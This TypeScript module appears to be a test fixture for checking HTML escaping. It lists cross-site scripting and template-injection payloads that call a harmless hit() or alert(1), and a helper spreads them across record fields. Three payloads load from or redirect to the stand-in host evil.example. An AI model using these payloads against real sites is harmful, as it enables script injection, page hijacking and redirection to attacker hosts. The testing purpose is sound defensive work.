/**
 * Texts that run where a page takes text for markup; each calls `hit()` or opens a dialog. None may
 * be cut to something harmless, so they are short.
 */
export const payloads = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '"><svg onload=hit()>',
  "'><body onload=hit()>",
  '</script><script>hit()</script>',
  '</title><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<a href="javascript:hit()">x</a>',
  'javascript:hit()',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '<style>@import "//evil.example";*{display:none}</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '\u2028</script><!--<script>hit()',
  '&lt;script&gt;hit()&lt;/script&gt;',
] as const;

/** A different payload in each of a record's fields, and in the same field of the next record. */
export const spread = (fields: readonly string[], shift: number): Record<string, string> =>
  Object.fromEntries(
    fields.map((name, index) => [name, payloads[(index + shift) % payloads.length] ?? payloads[0]]),
  );
